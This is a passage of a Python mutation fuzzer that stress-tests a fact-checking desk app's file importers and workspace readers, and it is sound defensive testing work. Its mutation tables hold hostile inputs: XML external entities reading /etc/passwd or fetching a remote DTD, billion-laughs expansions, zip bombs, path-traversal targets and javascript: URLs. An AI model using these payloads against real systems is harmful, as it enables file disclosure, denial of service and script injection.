#!/usr/bin/env python3
"""Mutation fuzzer of the desk's readers of files a journalist did not write.

It takes seed files (the sample article in seeds/, the saved pages, Word files and PDFs
in tests/data/import_pages, the older workspaces in tests/data/workspaces, and files it
builds itself: a .docx made with zipfile, a tiny PDF, Markdown, UTF-16 text, two
reviewed workspaces), mutates them, and runs each mutant through the code the desk runs
on such a file:

- import: `desk.importer.import_file` into a fresh workspace (read, extract, split,
  store), then the article read back and File → Check Workspace (`upkeep.check`) on it.
  The parsers run in this process (the same functions the parser worker runs), so that
  a case costs milliseconds rather than a worker's start;
- open: `Desk.open` for editing and read-only (File → Open Workspace), its articles,
  sentences, reviews, links, sign-offs, history and search read as the window reads
  them, Check Workspace and `verify`; opened for editing, a few edits (an import, a tag,
  a verdict, a merge of sentences, undo, redo); then the command line's reading commands
  and text exports on it (`list`, `stats`, `search`, `history`, `verify`, `agreement`,
  `export`);
- merge: `desk.merge.merge` into a copy of a reviewed workspace of the user's (File →
  Merge Workspace). A refused merge must leave the user's file byte for byte as it was
  (compared after a checkpoint), a merge that went through must leave it passing Check
  Workspace, and Undo must take it back to what it held; their file must not change;
- restore: `restore_backup` of the mutant over a copy of the user's workspace (File →
  Restore from Backup), then the open path on what was restored; a refused restore must
  leave the user's file as it was, and a completed one must keep it aside unchanged;
- clean: `open_cleaned_copy` of the mutant (Open a Cleaned Copy), which must give a
  workspace that passes Check Workspace.

An outcome is OK when the code succeeds or raises the desk's own error (FactcheckError,
whose message is the sentence the window and the command line show). Anything else is a
FINDING: another exception (a traceback), a case running past `--case-seconds` (each case
runs in a runner process the fuzzer kills and restarts), running out of the runner's
memory cap (`--memory-mb`), the runner dying, or a merge, restore or cleaned copy that
changes or damages the user's workspace beyond what it should.

Mutations: bit flips, byte overwrites with boundary values, deleted, duplicated and
inserted runs, truncation, splices of two seeds, huge length fields; in a .docx, entries
renamed, dropped, duplicated, nested zips, compression bombs, entity declarations and
deep nesting in its XML; in a PDF, huge /Length and /Count, self-referencing page trees,
deep arrays, a broken xref; in a workspace, SQLite pages corrupted (overwritten, zeroed,
truncated, header fields), a -wal of recent changes mutated, the design edited, and rows
edited through sqlite3 to hostile values (NULLs, negative and huge integers, wrong types,
offsets past the text, dangling ids, deep JSON, long text), rows deleted or duplicated,
`user_version` changed.

Each case is derived from `--seed` and its number alone, so `--replay N` runs case N
again (with `--keep` writing the mutant out, and `--minimise` cutting it down to the
fewest bytes that still give its finding). The built workspaces hold the time they
were made, so a page corruption of one of them may land on other bytes in another run.

`--sweep` runs no random cases but a systematic set: every column of the two built
workspaces, one at a time and on every row, set to bytes, text, a fraction, a negative
and a huge number, through the workspace readers.

A bench script, not a test: run it by hand, at low priority beside other work:

    nice -n 19 .venv/bin/python bench/fuzz_readers.py --minutes 20 --seed 1
    .venv/bin/python bench/fuzz_readers.py --seed 1 --replay 1234 --keep case --minimise

Exit status 0 when no finding was made, 1 otherwise. Findings (the mutant and its
traceback) are written to `--out` (default: a fresh folder in the temporary folder).
"""

from __future__ import annotations

import argparse
import contextlib
import hashlib
import io
import json
import logging
import os
import random
import re
import resource
import selectors
import shutil
import signal
import sqlite3
import struct
import subprocess
import sys
import tempfile
import time
import traceback
import warnings
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[1]
READERS = ("import", "open", "merge", "restore", "clean")
IMPORT_SUFFIXES = (".txt", ".md", ".html", ".docx", ".pdf")
ARTICLE_TEXT_FORMATS = ("json", "html", "md", "csv", "claimreview")

# -- seeds ---------------------------------------------------------------------------------

SHARED = (
    "The minister said unemployment fell to 4 percent last year. "
    "She added that wages rose by 10 percent. "
    "The opposition denied that any jobs were created. "
    "Official figures were published in March.\n\n"
    "The report was written by the statistics office."
)
USER_ONLY = "The mayor claimed the new bridge cost 3 million euros. It opened in May."
THEIRS_ONLY = "The senator said crime doubled in ten years. Police data show a fall of 12 percent."


def _docx(paragraphs: list[str], title: str = "Budget row") -> bytes:
    """A minimal Word file, made with zipfile (fixed times: the same bytes every run)."""
    body = "".join(
        f'<w:p><w:pPr><w:pStyle w:val="{"Heading1" if i == 0 else "Normal"}"/></w:pPr>'
        f"<w:r><w:t>{text}</w:t></w:r></w:p>"
        for i, text in enumerate(paragraphs)
    )
    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body>{body}</w:body></w:document>"
    )
    core = (
        '<?xml version="1.0" encoding="UTF-8"?><cp:coreProperties '
        'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/">'
        f"<dc:title>{title}</dc:title><dc:creator>Desk Fuzzer</dc:creator>"
        "<dcterms:created>2026-11-02T10:00:00Z</dcterms:created></cp:coreProperties>"
    )
    types = (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
        'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
        "</Types>"
    )
    return _zip(
        [
            ("[Content_Types].xml", types.encode()),
            ("word/document.xml", document.encode()),
            ("docProps/core.xml", core.encode()),
        ]
    )


def _zip(entries: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=(2026, 11, 2, 10, 0, 0))
            info.compress_type = method
            archive.writestr(info, data)
    return out.getvalue()


def _pdf(lines: list[str]) -> bytes:
    """A one-page PDF with a text layer in Helvetica, its xref offsets right."""
    text = "BT /F1 12 Tf 72 720 Td 14 TL " + " ".join(
        "(" + line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") + ") '"
        for line in lines
    )
    stream = text.encode("latin-1") + b" ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Title (Budget row) /Author (Desk Fuzzer) /CreationDate (D:20261102100000Z) >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R /Info 6 0 R >>\nstartxref\n{xref}\n"
        "%%EOF\n"
    ).encode()
    return bytes(out)


def built_import_seeds() -> dict[str, bytes]:
    """Small article files of every kind the desk imports, made here."""
    sentences = SHARED.split(". ")
    markdown = (
        "# Budget row\n\n*By Desk Fuzzer* — 2 November 2026\n\n"
        "The minister **said** unemployment fell to [4 percent](https://stats.example/u).\n\n"
        "- wages rose by 10 percent\n- jobs were created\n\n> The opposition denied it.\n"
    )
    return {
        "built.txt": ("date 2026-11-02\n" + SHARED).encode(),
        "built-utf16.txt": SHARED.encode("utf-16"),
        "built-bom.txt": b"\xef\xbb\xbf" + SHARED.replace("\n", "\r\n").encode(),
        "built.md": markdown.encode(),
        # Plain text that is not UTF-8 (read as Windows-1252 since 6 December, or refused
        # in words): wire copy in Windows-1252, Latin-1 Markdown, UTF-8 with a stray byte,
        # Cyrillic in Windows-1251 (reads as 1252 only as accents), a picture named .txt.
        "built-cp1252.txt": (
            "date 2026-11-02\n\u201cCaf\u00e9 prices rose by 5 \u20ac\u201d, the minister said "
            "\u2014 na\u00efve. " + SHARED
        ).encode("cp1252"),
        "built-latin1.md": ("# R\u00e9sum\u00e9\n\n" + markdown).encode("latin-1", "replace"),
        "built-stray.txt": ("Caf\u00e9 r\u00e9sum\u00e9. " + SHARED).encode() + b"\xe9 " + b"ok.",
        "built-cp1251.txt": (
            "\u041c\u0438\u043d\u0438\u0441\u0442\u0440 \u0441\u043a\u0430\u0437\u0430\u043b. " * 20
        ).encode("cp1251"),
        "built-png.txt": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4,
        "built.html": (
            "<!doctype html><html><head><meta charset='utf-8'><title>Budget row</title>"
            '<meta name="author" content="Desk Fuzzer"><link rel="canonical" '
            'href="https://news.example/budget"><script type="application/ld+json">'
            '{"@type": "NewsArticle", "headline": "Budget row", "datePublished": "2026-11-02"}'
            "</script></head><body><nav>Home | World</nav><article><h1>Budget row</h1>"
            + "".join(f"<p>{s}.</p>" for s in sentences)
            + "</article><footer>Comments</footer></body></html>"
        ).encode(),
        "built.docx": _docx(["Budget row", *sentences]),
        "built.pdf": _pdf(["Budget row", *sentences]),
    }


def repo_import_seeds() -> dict[str, bytes]:
    """The article files the repository already has (the sample article, test pages)."""
    out: dict[str, bytes] = {}
    for path in sorted((REPO / "seeds").glob("*.txt")):
        out[path.name] = path.read_bytes()
    pages = REPO / "tests" / "data" / "import_pages"
    for path in sorted(pages.iterdir()):
        small = path.is_file() and path.stat().st_size <= 400_000
        if small and path.suffix.lower() in IMPORT_SUFFIXES:
            out[path.name] = path.read_bytes()
    return out


def build_workspaces(folder: Path) -> dict[str, Path]:
    """The user's workspace and a colleague's, both reviewed, sharing one article."""
    os.environ.setdefault("FACTCHECK_REVIEWER", "Fuzzer")
    from factcheck_app.domain.models import Tag
    from factcheck_app.services.desk import Desk
    from factcheck_app.services.sources import NewSource

    def make(path: Path, who: str, other: str, verdict: str) -> None:
        desk = Desk.open(path, backup=False)
        desk.reviewer = desk.edits.actor = who
        try:
            shared = desk.importer.import_text(SHARED, source_name="shared.txt").article_id
            own = desk.importer.import_text(other, source_name=f"{who}.txt").article_id
            ids = [row.sentence.id for row in desk.reviews.sentence_rows(shared)]
            desk.reviews.set_tag(ids[0], Tag.CLAIM)
            desk.reviews.set_verdict(ids[0], "false")
            desk.reviews.set_tag(ids[1], Tag.CLAIM)
            desk.reviews.set_verdict(ids[1], verdict)
            desk.reviews.set_text_field(ids[1], "explanation", f"{who} checked the payroll.")
            desk.reviews.set_tag(ids[2], Tag.DENIAL)
            desk.reviews.set_denies(ids[2], ids[0])
            desk.sources.link_source(
                ids[0], NewSource(f"https://stats.example/{who}", title="Labour statistics")
            )
            desk.reviewer = desk.edits.actor = "Eve"  # an editor signs off another's verdict
            desk.sign_offs.approve(ids[0], note="Checked twice.")
            desk.reviewer = desk.edits.actor = who
            mine = [row.sentence.id for row in desk.reviews.sentence_rows(own)]
            desk.reviews.set_tag(mine[0], Tag.CLAIM)
            desk.reviews.set_verdict(mine[0], "mostly_true")
        finally:
            desk.close()

    user, theirs, empty = folder / "user.fcdesk", folder / "theirs.fcdesk", folder / "empty.fcdesk"
    make(user, "Alice", USER_ONLY, "true")
    make(theirs, "Bob", THEIRS_ONLY, "false")
    Desk.open(empty, backup=False).close()
    return {"user": user, "theirs": theirs, "empty": empty}


def with_recent_changes(workspace: Path, folder: Path) -> tuple[bytes, bytes]:
    """A copy of `workspace` and the -wal beside it holding changes not yet merged into
    it (what a desk that was killed leaves, or a copy made while one had it open)."""
    copy = folder / "recent.fcdesk"
    shutil.copyfile(workspace, copy)
    conn = sqlite3.connect(str(copy))
    try:
        conn.execute("PRAGMA journal_mode = WAL")
        conn.execute("PRAGMA wal_autocheckpoint = 0")
        with conn:
            conn.execute("UPDATE reviews SET explanation = explanation || ' Checked again.'")
            conn.execute("UPDATE articles SET title = title || ' (updated)'")
        with conn:
            conn.execute("UPDATE sources SET title = 'Labour statistics, revised'")
        return copy.read_bytes(), Path(f"{copy}-wal").read_bytes()
    finally:
        conn.close()


def workspace_seeds(built: dict[str, Path]) -> dict[str, bytes]:
    out = {"theirs.fcdesk": built["theirs"].read_bytes(), "user.fcdesk": built["user"].read_bytes()}
    for path in sorted((REPO / "tests" / "data" / "workspaces").glob("*.fcdesk")):
        out[path.name] = path.read_bytes()
    return out


# -- byte mutations ------------------------------------------------------------------------

INTERESTING = [0, 1, 0x7F, 0x80, 0xFF, 0x00, 0x20, 0x0A, 0x0D, 0x3C, 0x3E, 0x26, 0x25]
HUGE_NUMBERS = [b"999999999999", b"-1", b"4294967295", b"2147483648", b"0", b"1e308", b"-0"]
TOKENS: dict[str, list[bytes]] = {
    ".html": [
        b"<meta charset='utf-16'>",
        b'<meta charset="punycode">',
        b"<meta charset='x-user-defined'>",
        b"<div>" * 3000,
        b"<article>",
        b"</article>",
        b"<p>",
        b"&#0;",
        b"&#x110000;",
        b"&amp;" * 200,
        b"<script type='application/ld+json'>" + b"[" * 5000 + b"</script>",
        b'<script type="application/ld+json">{"@type":"NewsArticle","headline":5,'
        b'"author":{"name":[null]},"datePublished":"9999-99-99"}</script>',
        b"<link rel=canonical href='javascript:alert(1)'>",
        b"<!--",
        b"<![CDATA[",
        b"<table>" * 500,
        b"<img src='data:image/png;base64," + b"A" * 20000 + b"'>",
        b"\x00",
        b"\xff\xfe",
    ],
    ".docx": [b"<w:p>", b"</w:p>", b"<w:t>", b"&amp;", b"&#0;", b"<w:br/>" * 1000],
    ".pdf": [
        b"/Length 999999999",
        b"/Count -1",
        b"/Count 999999999",
        b"/Kids [2 0 R 2 0 R]",
        b"[" * 2000,
        b"<<" * 2000,
        b"/Filter /FlateDecode",
        b"/Filter /LZWDecode /DecodeParms << /Predictor 15 /Columns 999999 >>",
        b"startxref\n0\n",
        b"xref\n0 999999999\n",
        b"/Type /ObjStm /N 99999 /First 0",
        b"(" + b"\\(" * 3000,
        b"/Encrypt << /Filter /Standard /V 5 >>",
        b"/Font << /F1 << /Type /Font /Subtype /Type0 /Encoding /Identity-H >> >>",
        b"/ToUnicode 4 0 R",
        b"Tj " * 2000,
        b"-99999999 Tz",
    ],
    ".txt": [
        b"\x00",
        b"\xff\xfe",
        b"\xfe\xff",
        b"\xef\xbb\xbf",
        b"\r",
        "\u2028".encode(),
        # Not UTF-8: Windows-1252 letters and quotes, a byte 1252 leaves undefined, half a
        # UTF-8 sequence, the first bytes of a picture, a PDF, a zip.
        b"\xe9",
        b"\x93quoted\x94",
        b"\x80",
        b"\x81",
        b"\xc3",
        b"\xe2\x80",
        b"\x89PNG\r\n\x1a\n",
        b"\xff\xd8\xff",
        b"%PDF-1.7",
        b"PK\x03\x04",
    ],
    ".md": [
        b"__a " * 500,
        b"[" * 1000 + b"](" * 1000,
        b"#" * 1000 + b" ",
        b"```",
        b"<div>",
        b"\n" * 3000,
        b"*" * 4000,
        b"> " * 2000,
        b"- " * 2000,
        b"date 2026-13-45\n",
        b"date 99999-01-01\n",
        b"\xe9t\xe9",  # Latin-1 Markdown
        b"\x81",
    ],
}


def mutate_bytes(data: bytes, rng: random.Random, suffix: str, others: list[bytes]) -> bytes:
    """One to four byte-level mutations of `data`."""
    out = bytearray(data)
    for _ in range(rng.choice((1, 1, 1, 2, 3, 4))):
        op = rng.randrange(10)
        size = len(out)
        at = rng.randrange(size + 1) if size else 0
        if op == 0 and size:  # flip bits
            for _ in range(rng.randint(1, 8)):
                out[rng.randrange(size)] ^= 1 << rng.randrange(8)
        elif op == 1 and size:  # boundary bytes
            for _ in range(rng.randint(1, 4)):
                out[rng.randrange(size)] = rng.choice(INTERESTING)
        elif op == 2 and size:  # delete a run
            del out[at : at + rng.choice((1, 4, 64, 1024, size))]
        elif op == 3 and size:  # duplicate a run (many times)
            length = rng.choice((1, 16, 256, 4096))
            piece = bytes(out[at : at + length])
            out[at:at] = piece * rng.choice((1, 2, 50, 1000))
        elif op == 4:  # random bytes
            out[at:at] = rng.randbytes(rng.choice((1, 8, 256)))
        elif op == 5 and size:  # truncate
            del out[rng.randrange(size) :]
        elif op == 6 and others:  # splice with another seed
            other = rng.choice(others)
            cut = rng.randrange(len(other) + 1)
            out = out[:at] + bytearray(other[cut : cut + rng.choice((64, 4096, len(other)))])
        elif op == 7:  # a huge or odd number in place of digits
            digits = [i for i in range(min(size, 200_000)) if 0x30 <= out[i] <= 0x39]
            if digits:
                start = rng.choice(digits)
                end = start
                while end < size and 0x30 <= out[end] <= 0x39:
                    end += 1
                out[start:end] = rng.choice(HUGE_NUMBERS)
        elif op == 8:  # a format token
            tokens = TOKENS.get(suffix, TOKENS[".txt"])
            out[at:at] = rng.choice(tokens)
        elif op == 9 and size >= 4:  # a 32-bit length field made huge
            spot = rng.randrange(size - 3)
            out[spot : spot + 4] = struct.pack("<I", rng.choice((0xFFFFFFFF, 0x7FFFFFFF, 0)))
    return bytes(out)


# -- docx mutations ------------------------------------------------------------------------

XML_TRICKS = [
    # entity declarations: internal expansion (billion laughs), external (a local file)
    '<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
    '<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">'
    '<!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">]>',
    '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE w:document [<!ENTITY % p SYSTEM "http://198.51.100.1/x.dtd"> %p;]>',
]


def mutate_docx(data: bytes, rng: random.Random, others: list[bytes]) -> bytes:
    """A Word file's zip taken apart and put together wrongly, or its XML made hostile."""
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            entries = [(info.filename, archive.read(info)) for info in archive.infolist()]
    except (zipfile.BadZipFile, OSError, EOFError, ValueError, RuntimeError, NotImplementedError):
        return mutate_bytes(data, rng, ".docx", others)
    op = rng.randrange(12)
    names = [name for name, _ in entries]
    document = next((i for i, n in enumerate(names) if n == "word/document.xml"), 0)
    method = zipfile.ZIP_DEFLATED
    if op == 0:  # rename an entry
        i = rng.randrange(len(entries))
        entries[i] = (
            rng.choice(
                [
                    "WORD/DOCUMENT.XML",
                    "word/../word/document.xml",
                    "/word/document.xml",
                    "word\\document.xml",
                    "word/document.xml/",
                    "x" * 300,
                    "",
                ]
            ),
            entries[i][1],
        )
    elif op == 1:  # drop an entry
        del entries[rng.randrange(len(entries))]
    elif op == 2:  # the same name twice, the second one different
        name, body = entries[document]
        entries.append((name, mutate_bytes(body, rng, ".docx", [])))
    elif op == 3:  # a zip inside, named as the document, nested deep
        inner = data
        for _ in range(rng.choice((1, 5, 30))):
            inner = _zip([("word/document.xml", inner)])
        entries[document] = (entries[document][0], inner)
    elif op == 4:  # a compression bomb: megabytes of one letter, deflated to kilobytes
        name, body = entries[document]
        cut = body.find(b"<w:t>") + 5 if b"<w:t>" in body else len(body) // 2
        fill = rng.choice((b"a", b" ", b"<w:p/>")) * rng.choice((5, 50, 300)) * 1024 * 1024
        entries[document] = (name, body[:cut] + fill + body[cut:])
    elif op == 5:  # entity tricks
        name, body = entries[document]
        head = body.find(b"?>") + 2 if body.startswith(b"<?xml") else 0
        trick = rng.choice(XML_TRICKS).encode()
        use = rng.choice((b"&g;", b"&x;", b"&a;", b"&undefined;"))
        body = body[:head] + trick + body[head:]
        body = body.replace(b"<w:t>", b"<w:t>" + use, 1)
        entries[document] = (name, body)
    elif op == 6:  # deep nesting
        name, body = entries[document]
        depth = rng.choice((1000, 100_000))
        tag = rng.choice((b"w:p", b"w:r", b"w:tbl", b"w:sdt"))
        nest = (b"<" + tag + b">") * depth + b"<w:t>x</w:t>" + (b"</" + tag + b">") * depth
        body = body.replace(b"<w:body>", b"<w:body>" + nest, 1)
        entries[document] = (name, body)
    elif op == 7:  # stored, not compressed; or an odd XML encoding declaration
        method = zipfile.ZIP_STORED
        name, body = entries[document]
        enc = rng.choice((b"UTF-16", b"ebcdic-cp-us", b"x-nonsense", b"UTF-8"))
        body = body.replace(b'encoding="UTF-8"', b'encoding="' + enc + b'"', 1)
        entries[document] = (name, body)
    elif op == 8:  # XML bytes mutated inside a well-formed zip
        i = rng.randrange(len(entries))
        entries[i] = (entries[i][0], mutate_bytes(entries[i][1], rng, ".docx", []))
    elif op == 9:  # many entries
        entries += [(f"word/media/{n}.bin", b"") for n in range(rng.choice((100, 5000)))]
    elif op == 10:  # relationships that point anywhere
        kind = rng.choice(("officeDocument", "core-properties", "styles"))
        target = rng.choice(
            (
                "../../../etc/passwd",
                "word/",
                "",
                "/",
                "_rels/.rels",
                "word/document.xml",
                "docProps/core.xml",
                "x" * 5000,
                "word/%00.xml",
                "C:\\word\\document.xml",
            )
        )
        relation = (
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            'package/2006/relationships"><Relationship Id="r1" Type="http://schemas.'
            f'openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"/>'
            "</Relationships>"
        ).encode()
        where = rng.choice(("_rels/.rels", "word/_rels/document.xml.rels"))
        entries = [(n, b) for n, b in entries if n != where] + [(where, relation)]
    else:  # the zip's own bytes mutated
        return mutate_bytes(data, rng, ".docx", others)
    return _zip(entries, method)


# -- workspace mutations ------------------------------------------------------------------


def _hostile_value(rng: random.Random, column: str, context: dict[str, int]) -> Any:
    big_text = "x" * rng.choice((1000, 200_000, 2_000_000))
    values: list[Any] = [
        None,
        -1,
        0,
        1,
        2**63 - 1,
        -(2**63),
        2**31,
        1.5,
        -0.0,
        1e308,
        "",
        "x",
        "12abc",
        "99999999999999999999",
        "9999-99-99",
        "2026-02-30T25:61:00",
        b"\x00\xff\xfe",
        "\x00",
        "\u202e",
        "{",
        "[" * 5000 + "]" * 5000,
        '{"a":' * 3000 + "1" + "}" * 3000,
        '{"tag": 5, "rating": [], "status": {}}',
        "javascript:alert(1)",
        "https://ex.example/" + "a" * 5000,
        big_text,
        context.get("text_length", 100) + rng.choice((0, 1, 5, 10_000)),
        context.get("max_id", 10) + rng.choice((1, 1000)),
        -context.get("max_id", 10),
    ]
    if column in ("start", "end", "paragraph", "position", "offset"):
        values += [context.get("text_length", 100) + k for k in (-1, 0, 1, 50)] * 3
    return rng.choice(values)


def _tables(conn: sqlite3.Connection) -> list[str]:
    return [
        row[0]
        for row in conn.execute(
            "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'"
            " ORDER BY name"
        )
    ]


def _edit_rows(path: Path, rng: random.Random) -> str:
    """Rows of the workspace at `path` edited through sqlite3 to hostile values."""
    conn = sqlite3.connect(str(path))
    done = []
    try:
        tables = _tables(conn)
        plain = [t for t in tables if "_fts" not in t and "search" not in t] or tables
        context = {
            "text_length": conn.execute(
                "SELECT coalesce(max(length(text)), 100) FROM articles"
            ).fetchone()[0]
            if "articles" in tables
            else 100,
            "max_id": 50,
        }
        for _ in range(rng.choice((1, 1, 2, 3))):
            table = rng.choice(plain if rng.random() < 0.9 else tables)
            with contextlib.suppress(sqlite3.Error):  # a table already damaged: next one
                done.append(_edit_table(conn, table, rng, context))
        conn.commit()
    except sqlite3.Error as error:  # the seed itself is damaged (an earlier mutation)
        done.append(f"edits stopped ({error})")
    finally:
        conn.close()
    return "; ".join(d for d in done if d) or "no edit took"


def _edit_table(
    conn: sqlite3.Connection, table: str, rng: random.Random, context: dict[str, int]
) -> str:
    """One hostile edit of one table's rows; what was done ('' for nothing)."""
    info = conn.execute(f'PRAGMA table_info("{table}")').fetchall()
    columns = [row[1] for row in info]
    if not columns:
        return ""
    # A WITHOUT ROWID table's rows are named by their primary key instead.
    keys = [row[1] for row in sorted(info, key=lambda r: r[5]) if row[5]]
    key = keys[0] if keys else "rowid"
    try:
        rowids = [row[0] for row in conn.execute(f'SELECT "{key}" FROM "{table}" ORDER BY 1')]
    except sqlite3.Error:
        key, rowids = "rowid", []
    op = rng.randrange(10)
    if op <= 6 and rowids:
        column = rng.choice(columns)
        value = _hostile_value(rng, column, context)
        rowid = rng.choice(rowids)
        conn.execute(f'UPDATE "{table}" SET "{column}" = ? WHERE "{key}" = ?', (value, rowid))
        return f"{table}.{column}[{rowid}]={_short(value)}"
    if op == 7 and rowids:
        rowid = rng.choice(rowids)
        conn.execute(f'DELETE FROM "{table}" WHERE "{key}" = ?', (rowid,))
        return f"delete {table}[{rowid}]"
    if op == 8 and rowids:  # a copy of a row with a new id
        rowid = rng.choice(rowids)
        cols = ", ".join(f'"{c}"' for c in columns if c != "id")
        conn.execute(
            f'INSERT INTO "{table}" ({cols}) SELECT {cols} FROM "{table}" WHERE "{key}" = ?',
            (rowid,),
        )
        return f"copy {table}[{rowid}]"
    version = rng.choice((0, 1, 2, 3, 4, 6, 99, -1, 2**31 - 1))
    conn.execute(f"PRAGMA user_version = {version}")
    return f"user_version={version}"


def _short(value: Any) -> str:
    shown = repr(value)
    return shown if len(shown) <= 40 else shown[:37] + "…"


def _corrupt_pages(data: bytes, rng: random.Random) -> tuple[bytes, str]:
    out = bytearray(data)
    page_size = struct.unpack(">H", data[16:18])[0] if len(data) >= 100 else 4096
    page_size = 65536 if page_size == 1 else page_size or 4096
    pages = max(1, len(out) // page_size)
    op = rng.randrange(6)
    page = rng.randrange(pages)
    base = page * page_size
    if op == 0:
        for _ in range(rng.randint(1, 16)):
            spot = base + rng.randrange(page_size)
            if spot < len(out):
                out[spot] = rng.randrange(256)
        return bytes(out), f"bytes of page {page + 1} overwritten"
    if op == 1:
        out[base : base + page_size] = bytes(min(page_size, len(out) - base))
        return bytes(out), f"page {page + 1} zeroed"
    if op == 2:
        cut = rng.choice((base, base + rng.randrange(page_size), 100, 50))
        return bytes(out[:cut]), f"truncated at {cut}"
    if op == 3:  # the page's cell pointers, counts, and the b-tree page type
        header = 100 if page == 0 else 0
        spot = base + header + rng.choice((0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11))
        if spot < len(out):
            out[spot] = rng.choice((0, 0xFF, 0x0D, 0x05, 0x0A, 0x02, 0x80))
        return bytes(out), f"b-tree header of page {page + 1} edited"
    if op == 4 and len(out) >= 100:  # file header fields
        field_at = rng.choice((16, 18, 19, 20, 21, 28, 32, 36, 40, 44, 48, 52, 56, 60, 64, 68))
        width = 2 if field_at == 16 else (1 if field_at in (18, 19, 20, 21) else 4)
        out[field_at : field_at + width] = rng.choice(
            (b"\xff" * width, b"\x00" * width, b"\x7f" + b"\xff" * (width - 1))
        )
        return bytes(out), f"file header field at {field_at} edited"
    other = rng.randrange(pages)  # one page copied over another
    out[base : base + page_size] = out[other * page_size : other * page_size + page_size]
    return bytes(out), f"page {other + 1} copied over page {page + 1}"


def _schema_edit(path: Path, rng: random.Random) -> str:
    """The file's design changed through writable_schema (the desk must refuse it)."""
    conn = sqlite3.connect(str(path))
    try:
        conn.execute("PRAGMA writable_schema = ON")
        rows = conn.execute(
            "SELECT name, sql FROM sqlite_master WHERE sql IS NOT NULL ORDER BY name"
        ).fetchall()
        if not rows:
            return "no schema"
        name, text = rng.choice(rows)
        edited = rng.choice(
            (
                text.replace("NOT NULL", "", 1),
                text.replace("INTEGER", "TEXT", 1),
                text + " ",
                text.replace("(", "(evil INTEGER, ", 1),
            )
        )
        conn.execute("UPDATE sqlite_master SET sql = ? WHERE name = ?", (edited, name))
        conn.commit()
        return f"schema of {name} edited"
    except sqlite3.Error as error:
        return f"schema edit failed ({error})"
    finally:
        conn.close()


def mutate_workspace(data: bytes, rng: random.Random, target: Path) -> str:
    """Write a mutant of the workspace `data` to `target`; what was done, in words."""
    target.write_bytes(data)
    kind = rng.random()
    if kind < 0.6:
        return _edit_rows(target, rng)
    if kind < 0.9:
        mutated, what = _corrupt_pages(data, rng)
        target.write_bytes(mutated)
        return what
    if kind < 0.95:
        return _schema_edit(target, rng)
    first = _edit_rows(target, rng)
    mutated, what = _corrupt_pages(target.read_bytes(), rng)
    target.write_bytes(mutated)
    return f"{first}; {what}"


# -- the cases -----------------------------------------------------------------------------


@dataclass
class Case:
    number: int
    reader: str
    seed_name: str
    how: str
    path: Path


@dataclass
class Seeds:
    imports: dict[str, bytes]
    workspaces: dict[str, bytes]
    built: dict[str, Path]
    recent: tuple[bytes, bytes] = (b"", b"")  # a workspace and its -wal (see above)
    by_suffix: dict[str, list[str]] = field(default_factory=dict)

    def __post_init__(self) -> None:
        for name in sorted(self.imports):
            self.by_suffix.setdefault(Path(name).suffix.lower(), []).append(name)


def make_case(seeds: Seeds, seed: int, number: int, readers: tuple[str, ...], folder: Path) -> Case:
    """Case `number`, the same for the same seed whatever came before it."""
    rng = random.Random(f"{seed}:{number}")
    reader = readers[number % len(readers)]
    if reader == "import":
        suffix = rng.choice(sorted(seeds.by_suffix))
        name = rng.choice(seeds.by_suffix[suffix])
        data = seeds.imports[name]
        others = [seeds.imports[n] for n in seeds.by_suffix[suffix]]
        if suffix == ".docx" and rng.random() < 0.7:
            mutated = mutate_docx(data, rng, others)
            how = "docx"
        else:
            mutated = mutate_bytes(data, rng, suffix, others)
            how = "bytes"
        # Now and then the bytes under another name: a page saved as .txt, a PDF as .docx.
        if rng.random() < 0.1:
            suffix = rng.choice(IMPORT_SUFFIXES)
            how += f" as {suffix}"
        path = folder / f"case{number}{suffix}"
        path.write_bytes(mutated)
        return Case(number, reader, name, how, path)
    path = folder / f"case{number}.fcdesk"
    if seeds.recent[1] and rng.random() < 0.2:  # its -wal mutated, sometimes the file too
        main, wal = seeds.recent
